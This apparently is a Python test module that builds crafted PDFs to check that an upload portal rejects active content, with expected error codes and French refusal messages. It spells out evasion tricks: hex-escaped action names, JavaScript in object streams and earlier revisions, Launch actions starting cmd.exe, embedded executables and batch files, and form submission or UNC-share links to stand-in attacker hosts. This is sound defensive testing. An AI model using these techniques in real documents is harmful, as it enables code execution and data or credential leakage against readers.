"""PDF attacks: names written with hex escapes, scripts in compressed object streams, earlier revisions.

Each builder returns the bytes of one crafted file; `ATTACKS` lists them with the error code and
French words of their refusal.
"""

import io

import pikepdf

from tests.portal import upload_corpus as corpus


def _saved(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, **options)
    return out.getvalue()


def _link_annotation(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A " + action + b" >>"


def pdf_open_action_hex_escaped() -> bytes:
    """/OpenAction running JavaScript, every name written with #xx escapes (/J#53 is /JS)."""
    return corpus.pdf(catalog=b"/#4Fpen#41ction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")


def pdf_additional_action_hex_escaped() -> bytes:
    """/AA on the page (written /#41A): a tracking address fetched as the page opens."""
    return corpus.pdf(page=b"/#41A << /O << /S /URI /URI (https://tracker.example/pixel) >> >>")


def pdf_launch_hex_escaped() -> bytes:
    """A link whose action (/L#61unch) starts cmd.exe."""
    action = b"<< /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >>"
    return corpus.pdf(page=b"/Annots [5 0 R]", extra=(_link_annotation(action),))


def pdf_action_type_by_reference() -> bytes:
    """The action's type is an indirect object: `/S 6 0 R` where object 6 is the name /Launch."""
    action = b"<< /S 6 0 R /F (cmd.exe) >>"
    return corpus.pdf(page=b"/Annots [5 0 R]", extra=(_link_annotation(action), b"/L#61unch"))


def pdf_javascript_in_object_stream() -> bytes:
    """Document-level JavaScript (the /JavaScript name tree), stored in a compressed object stream."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('https://x.example')"))
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["init", script])))
    return _saved(pdf)


def pdf_embedded_file_hex_escaped() -> bytes:
    """An attached program listed in /EmbeddedFiles, names escaped (/#45mbeddedFiles, /#45F)."""
    program = corpus.windows_executable()
    return corpus.pdf(
        catalog=b"/Names << /#45mbeddedFiles << /Names [(budget.exe) 5 0 R] >> >>",
        extra=(
            b"<< /Type /Filespec /F (budget.exe) /#45F << /F 6 0 R >> >>",
            b"<< /Type /#45mbeddedFile /Length %d >>\nstream\n" % len(program) + program + b"\nendstream",
        ),
    )


def pdf_file_attachment_annotation() -> bytes:
    """A /FileAttachment annotation on the page, compressed in an object stream."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    attached = pikepdf.Stream(pdf, b"@echo off\r\ncalc.exe\r\n")
    specification = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="lisez-moi.bat", EF=pikepdf.Dictionary(F=attached))
    annotation = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[72, 700, 90, 720], FS=specification
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([annotation]))
    return _saved(pdf)


def pdf_xfa_form() -> bytes:
    """An XFA form: a second, scriptable form model that readers render instead of the page."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    xfa = pikepdf.Stream(pdf, b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa)
    return _saved(pdf)


def pdf_submit_form() -> bytes:
    """A link that sends the form's data to another site."""
    action = b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >>"
    return corpus.pdf(page=b"/Annots [5 0 R]", extra=(_link_annotation(action),))


def pdf_remote_go_to() -> bytes:
    """A link that opens a PDF on a shared folder (the reader's computer logs in to it)."""
    action = b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"
    return corpus.pdf(page=b"/Annots [5 0 R]", extra=(_link_annotation(action),))


def pdf_rich_media() -> bytes:
    """A /RichMedia annotation (Flash or video with its own scripts)."""
    annotation = b"<< /Type /Annot /Subtype /RichMedia /Rect [72 500 300 700] >>"
    return corpus.pdf(page=b"/Annots [5 0 R]", extra=(annotation,))


def pdf_javascript_in_earlier_revision() -> bytes:
    """Revision 1 opens with JavaScript; revision 2 (an incremental update) replaces the catalog.

    A reader that shows the signed or earlier version of the file runs the script.
    """
    first = pdf_open_action_hex_escaped()
    return corpus.pdf_update(first, {1: b"<< /Type /Catalog /Pages 2 0 R >>"})


def pdf_with_user_password() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return _saved(pdf, encryption=pikepdf.Encryption(owner="proprietaire", user="secret"))


def pdf_unreadable() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 8


def pdf_many_revisions(count: int = 17) -> bytes:
    """As many incremental updates as `count`, each rewriting the catalog."""
    data = corpus.pdf()
    for _index in range(count):
        data = corpus.pdf_update(data, {1: b"<< /Type /Catalog /Pages 2 0 R >>"})
    return data


# (file name, builder, code, words of the French reason)
ATTACKS = [
    ("ouverture.pdf", pdf_open_action_hex_escaped, "pdf_active_content", "du JavaScript"),
    ("page.pdf", pdf_additional_action_hex_escaped, "pdf_active_content", "à l'ouverture ou sur un événement"),
    ("lien.pdf", pdf_launch_hex_escaped, "pdf_active_content", "lance un programme"),
    ("reference.pdf", pdf_action_type_by_reference, "pdf_active_content", "lance un programme"),
    ("script.pdf", pdf_javascript_in_object_stream, "pdf_active_content", "du JavaScript"),
    ("joint.pdf", pdf_embedded_file_hex_escaped, "pdf_active_content", "des fichiers joints"),
    ("annotation.pdf", pdf_file_attachment_annotation, "pdf_active_content", "des fichiers joints"),
    ("formulaire.pdf", pdf_xfa_form, "pdf_active_content", "un formulaire XFA"),
    ("envoi.pdf", pdf_submit_form, "pdf_active_content", "envoie des données"),
    ("partage.pdf", pdf_remote_go_to, "pdf_active_content", "ouvre un autre fichier"),
    ("media.pdf", pdf_rich_media, "pdf_active_content", "multimédia"),
    ("revision.pdf", pdf_javascript_in_earlier_revision, "pdf_active_content", "du JavaScript"),
    ("protege.pdf", pdf_with_user_password, "encrypted", "protégé par un mot de passe"),
    ("illisible.pdf", pdf_unreadable, "format", "Le PDF est illisible ou endommagé"),
    ("revisions.pdf", pdf_many_revisions, "pdf_revisions", "plus de 16 fois"),
]
